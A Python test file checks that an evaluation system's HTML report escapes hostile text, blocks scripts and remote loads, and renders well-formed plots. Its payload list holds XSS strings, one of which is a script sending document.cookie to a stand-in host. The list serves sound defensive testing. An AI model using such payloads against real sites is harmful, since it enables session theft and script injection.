"""The HTML report: self-contained, no script, every hostile text inert, well-formed."""

from __future__ import annotations

import base64
import hashlib
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from evals_fakes import answer_with, passage_of, refusal, tiny_dataset
from hypothesis import given, settings
from hypothesis import strategies as st

from corpus import read_text
from corpus.document import Span
from evals.cases import Case, GoldSpan, Nugget
from evals.html_report import to_html
from evals.outcome import Outcome
from evals.plots import Bar, bars, histogram, risk_coverage
from evals.report import make_report
from evals.runner import Run
from qa.answer import Turn

HOSTILE = (
    "<script>fetch('http://x.example/'+document.cookie)</script>",
    "<img src=http://x.example/i.png onerror=alert(1)>",
    "' autofocus onfocus='alert(1)",
    '"><svg onload=alert(1)><style>@import "http://x.example/a.css"</style>',
    "</title></style></details><iframe src=//x.example></iframe>",
    "&lt;b&gt; & &amp; \x00\x1b[2J\u202e",
)


class Checker(HTMLParser):
    """Tags, attributes and text of a page; fails on a tag closed out of order."""

    VOID = frozenset({"meta", "br", "input", "wbr"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def check(page: str) -> Checker:
    checker = Checker()
    checker.feed(page)
    checker.close()
    assert checker.open == []
    return checker


def page_of(hostile: str) -> str:
    parsed = read_text(f"Before {hostile} after.", source=f"{hostile}.txt", title=hostile)
    text = parsed.document.text
    span = Span(document_id=parsed.document.id, start=0, end=len(text))
    gold = GoldSpan(source=parsed.document.source, span=span, quote=text)
    case = Case(
        id=hostile,
        question=hostile,
        kind=hostile,
        answerable=True,
        nuggets=(Nugget(name=hostile, any_of=(gold,)),),
        split=hostile,
        note=hostile,
    )
    history = (Turn(role=hostile, content=hostile),)
    others = (
        replace(case, id="2", kind="b", history=history),
        replace(case, id="3", answerable=False, nuggets=()),
    )
    outcomes = (
        Outcome(
            case_id=hostile,
            asked=True,
            answer=answer_with(hostile, (parsed, text)),
            ask_seconds=0.1,
            searched=True,
            passages=(passage_of(parsed),),
            search_seconds=0.1,
            documents={parsed.document.id: (parsed,)},
        ),
        Outcome(case_id="2", asked=True, error=hostile),
        Outcome(case_id="3", asked=True, answer=refusal(hostile, hostile)),
    )
    dataset = replace(
        tiny_dataset(),
        name=hostile,
        title=hostile,
        documents=(parsed,),
        cases=(case, *others),
        sha256=hostile,
    )
    run = Run(dataset=dataset, outcomes=outcomes, available=3, seed=0, limit=None, problems=(hostile,))
    return to_html(make_report(run, split=hostile))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_stays_text(hostile: str) -> None:
    page = page_of(hostile)
    checker = check(page)
    assert not checker.tags & {"script", "img", "iframe", "link", "object", "form", "a", "base"}
    assert not [
        name for name, _ in checker.attributes if name.startswith("on") or name in {"src", "href", "style"}
    ]
    assert "http" not in page.replace("http-equiv", "").replace("http://www.w3.org/2000/svg", "").replace(
        "http://x.example", ""
    )
    shown = "".join(checker.text)
    assert hostile.split("\x00")[0] in shown


def test_only_its_own_style_sheet_is_allowed() -> None:
    page = page_of("plain")
    found = re.search(r"<style>(.*?)</style>", page, re.DOTALL)
    assert found is not None
    digest = base64.b64encode(hashlib.sha256(found[1].encode()).digest()).decode()
    policy = dict(check(page).attributes)
    assert f"default-src 'none'; style-src 'sha256-{digest}'" in page.replace("&#x27;", "'")
    assert "content" in policy
    assert "url(" not in found[1]
    assert "@import" not in found[1]


def test_the_page_shows_question_answer_gold_and_verdict_of_every_case() -> None:
    shown = "".join(check(page_of("plain words")).text)
    for text in (
        "Before plain words after.",
        "covered",
        "failed",
        "rightly refused",
        "100% cited",
        "on point",
        "search rank 1",
    ):
        assert text in shown


@settings(deadline=None)
@given(
    st.lists(st.tuples(st.text(max_size=20), st.floats(0, 1)), min_size=1, max_size=12),
    st.lists(st.floats(0, 1e6), min_size=1, max_size=60),
    st.lists(st.tuples(st.floats(0, 1), st.booleans()), min_size=1, max_size=300),
)
def test_plots_are_well_formed_and_finite(
    shares: list[tuple[str, float]], times: list[float], scored: list[tuple[float, bool]]
) -> None:
    rows = [
        Bar(label=label, value=share, low=share / 2, high=(1 + share) / 2, target=0.5)
        for label, share in shares
    ]
    for svg in (
        bars(rows, title="t"),
        histogram(times, title="t", unit="ms"),
        risk_coverage(scored, title="t"),
    ):
        checker = check(svg)
        numbers = [
            value for name, value in checker.attributes if name in {"x", "y", "width", "height", "x1", "y1"}
        ]
        assert all(-1 <= float(number) < 1000 for number in numbers)
        assert "nan" not in svg.split("<title>")[0]
        assert "inf" not in svg.split("<title>")[0]


def test_risk_is_measured_among_the_most_confident() -> None:
    right_first = risk_coverage([(0.9, True), (0.8, True), (0.1, False)], title="t")
    wrong_first = risk_coverage([(0.9, False), (0.8, True), (0.1, True)], title="t")
    assert f"area under the curve {(0 + 0 + 1 / 3) / 3:.3f}, n 3" in right_first
    assert f"area under the curve {(1 + 1 / 2 + 1 / 3) / 3:.3f}, n 3" in wrong_first


@pytest.mark.browser
def test_chromium_runs_no_script_loads_nothing_and_fits_a_phone(tmp_path: Path) -> None:
    from playwright.sync_api import sync_playwright

    target = tmp_path / "report.html"
    target.write_text(page_of("".join(HOSTILE[:4])), encoding="utf-8")
    with sync_playwright() as playwright:
        flags = (
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            "--disable-sync",
            "--no-first-run",
        )
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=list(flags))
        try:
            page = browser.new_page(viewport={"width": 390, "height": 800})
            requests: list[str] = []
            complaints: list[str] = []
            page.on("request", lambda request: requests.append(request.url))
            page.on("dialog", lambda dialog: complaints.append(dialog.message))
            page.on("console", lambda message: complaints.append(message.text))
            page.goto(target.as_uri())
            page.locator("summary").first.click()
            assert page.locator("details[open] blockquote").first.is_visible()
            page.locator("label", has_text="need a look").click()
            assert page.locator("details.case:visible").count() == 1
            assert page.evaluate("document.documentElement.scrollWidth") <= 390
            assert requests == [target.as_uri()]
            assert complaints == []
        finally:
            browser.close()
